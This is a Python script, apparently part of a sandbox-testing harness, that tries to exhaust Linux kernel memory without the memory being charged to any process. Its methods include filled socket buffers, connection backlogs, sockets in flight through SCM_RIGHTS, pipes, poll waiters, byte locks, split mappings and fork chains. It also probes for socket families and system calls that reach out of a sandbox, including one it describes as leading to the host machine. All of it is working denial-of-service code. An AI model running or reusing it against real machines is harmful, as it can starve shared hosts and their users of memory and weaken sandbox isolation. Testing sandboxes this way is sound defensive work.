"""Takes memory of the kernel that belongs to no process: python3 kernel_attacks.py MARK KIND.

Answers 0 if it failed, else 1; the reason is on standard error. Each attack is bounded: some 300 MiB, 120 processes.
"""
import array
import ctypes
import fcntl
import mmap
import os
import select
import socket
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
kept = []


def filled(write):
    """Writes as much as is taken without waiting."""
    size = 1 << 17
    while size:
        try:
            write(b"x" * size)
        except BlockingIOError:
            size //= 2


def full_sockets():
    """Two sockets, each of which has as much to read as fits."""
    pair = socket.socketpair()
    for end in pair:
        end.setblocking(False)
        filled(end.send)
    return pair


def full_pipe():
    """A descriptor that reads and writes a pipe, so that nobody who waits for it sees its end."""
    read, write = os.pipe()
    both = os.open(f"/proc/self/fd/{read}", os.O_RDWR | os.O_NONBLOCK)
    os.close(read)
    os.close(write)
    filled(lambda data: os.write(both, data))
    return both


def many(processes, task):
    """Whether a task could be done by this many processes at once, each of which keeps what it has taken."""
    done, note = os.pipe()
    for _ in range(processes):
        if os.fork() == 0:
            try:
                task()
                os.write(note, b"x")
            finally:
                time.sleep(1000)
    os.close(note)
    seen = b""
    while len(seen) < processes and select.select([done], [], [], 20)[0]:
        seen += os.read(done, processes)
    time.sleep(1)
    return len(seen) == processes


def sockets():
    """800 sockets with 208 KiB each: 160 MiB."""
    return many(10, lambda: kept.extend(full_sockets() for _ in range(40)))


def backlog():
    """Connections that wait to be accepted, all behind one descriptor: 1,000 times 208 KiB."""
    kept.append(socket.socket(socket.AF_UNIX))
    kept[0].bind("/tmp/backlog")
    kept[0].listen(1000)
    for _ in range(1000):
        with socket.socket(socket.AF_UNIX) as end:
            end.setblocking(False)
            end.connect("/tmp/backlog")
            filled(end.send)
    time.sleep(1)
    return True


def in_flight():
    """Sockets that have been sent and not received, each with ten messages of senders that are gone: 200 MiB."""
    carrier = socket.socketpair()
    for number in range(100):
        name = f"/tmp/{number}"
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as receiver:
            receiver.bind(name)
            for _ in range(10):
                with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
                    sender.setblocking(False)
                    sender.sendto(b"x" * 200_000, name)
            rights = array.array("i", [receiver.fileno()])
            carrier[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
    kept.append(carrier)
    time.sleep(1)
    return True


def pipes():
    """4,680 pipes: 64 KiB for each of the first thousand of a user, then 8 KiB: 90 MiB beside 60 MiB of Python's own."""
    return many(40, lambda: kept.extend(full_pipe() for _ in range(117)))


def waiting():
    """12,000 pipes that are closed, each held by a call that waits for it: 150 MiB."""
    def wait(ends):
        polled = [end.to_bytes(4, "little") + bytes(4) for end in ends]
        libc.poll(b"".join(polled), len(polled), -1)
    threading.stack_size(128 << 10)
    for _ in range(120):
        ends = [full_pipe() for _ in range(100)]
        threading.Thread(target=wait, args=(ends,), daemon=True).start()
        time.sleep(0.01)
        for end in ends:
            os.close(end)
    time.sleep(1)
    return True


def locks():
    """One million locks of a byte each: 200 MiB."""
    def task():
        for number in range(100):
            file = open(f"/tmp/{os.getpid()}.{number}", "wb")
            kept.append(file)
            for place in range(2500, 0, -2):
                fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, place)
            # Only other processes can see the lock.
            if number == 0:
                child = os.fork()
                if child == 0:
                    asked = fcntl.fcntl(file, fcntl.F_GETLK, whole_file())
                    os._exit(asked[:2] == fcntl.F_UNLCK.to_bytes(2, "little"))
                if os.waitpid(child, 0)[1] != 0:
                    raise OSError("no lock is kept")
    return many(8, task)


def whole_file():
    """A `struct flock` that asks whether a whole file could be locked."""
    return fcntl.F_WRLCK.to_bytes(2, "little") + bytes(30)


def mappings():
    """Mappings of a page that is never touched, 60,000 in each of 20 processes: 270 MiB."""
    def task():
        libc.mmap.restype = ctypes.c_void_p
        area = libc.mmap(None, ctypes.c_size_t(60_000 * mmap.PAGESIZE), 0, 0x22, -1, 0)
        for page in range(0, 60_000, 2):
            place = ctypes.c_void_p(area + page * mmap.PAGESIZE)
            if libc.mprotect(place, ctypes.c_size_t(mmap.PAGESIZE), mmap.PROT_READ) != 0:
                raise OSError(ctypes.get_errno(), "mprotect")
    return many(20, task)


def chain():
    """Processes that come of each other, each of which knows for 4,000 mappings of all those above it: 250 MiB."""
    libc.mmap.restype = ctypes.c_void_p
    for _ in range(2000):
        for part in (mmap.PROT_READ | mmap.PROT_WRITE, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC):
            ctypes.memset(libc.mmap(None, ctypes.c_size_t(mmap.PAGESIZE), part, 0x22, -1, 0), 1, 1)
    done, note = os.pipe()
    for depth in range(40):
        if os.fork() != 0:
            if depth == 0:
                os.close(note)
                os.read(done, 1)
                time.sleep(1)
                return True
            time.sleep(1000)
    os.write(note, b"x")
    time.sleep(1000)


def families():
    """Whether a socket of any other family than this machine's own can be had; the 40th leads to the host of a machine."""
    opened = []
    for family in set(range(64)) - {socket.AF_UNIX}:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            for make in (socket.socket, socket.socketpair):
                try:
                    kept.append(make(family, kind))
                    opened.append(family)
                except OSError:
                    pass
    print(sorted(set(opened)), file=sys.stderr)
    return bool(opened)


def calls():
    """Whether anything can be done that keeps memory where it cannot be counted."""
    pair = socket.socketpair()
    read, write = os.pipe()
    os.write(write, b"x")
    file = os.open("/tmp/x", os.O_RDWR | os.O_CREAT)
    os.write(file, b"x")
    page = ctypes.create_string_buffer(mmap.PAGESIZE)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(page), 1)
    program = (ctypes.c_uint64 * 1)(0x7FFF_0000_0000_0006)
    filters = (ctypes.c_size_t * 2)(1, ctypes.addressof(program))
    SET_SECCOMP, SECCOMP, LANDLOCK = 22, 317 if os.uname().machine == "x86_64" else 277, 444
    tried = {
        "send buffer": lambda: pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22),
        "receive buffer": lambda: pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22),
        "socket filter": lambda: pair[0].setsockopt(socket.SOL_SOCKET, 26, bytes(filters)),
        "pipe size": lambda: fcntl.fcntl(write, fcntl.F_SETPIPE_SZ, 1 << 20),
        "inotify": lambda: checked(libc.inotify_init()),
        "inotify 1": lambda: checked(libc.inotify_init1(0)),
        "fanotify": lambda: checked(libc.fanotify_init(0x200, 0)),
        "vmsplice": lambda: checked(libc.vmsplice(write, vector, 1, 0)),
        "splice": lambda: checked(libc.splice(file, ctypes.byref(ctypes.c_int64(0)), write, None, 1, 0)),
        "tee": lambda: checked(libc.tee(read, os.pipe()[1], 1, 0)),
        "sendfile": lambda: os.sendfile(write, file, 0, 1),
        "landlock": lambda: checked(libc.syscall(LANDLOCK, (ctypes.c_uint64 * 1)(1), 8, 0)),
        "prctl filter": lambda: checked(libc.prctl(SET_SECCOMP, 2, filters)),
        "seccomp filter": lambda: checked(libc.syscall(SECCOMP, 1, 0, filters)),
    }
    for name, call in tried.items():
        try:
            call()
            kept.append(name)
        except OSError:
            pass
    print(kept, file=sys.stderr)
    return bool(kept)


def checked(result):
    """The result of a call of the system."""
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


for line in sys.stdin:
    if line.startswith("position"):
        try:
            done = globals()[sys.argv[2]]()
        except (OSError, MemoryError, ValueError) as error:
            print(error, file=sys.stderr)
            done = False
        print(int(done), flush=True)
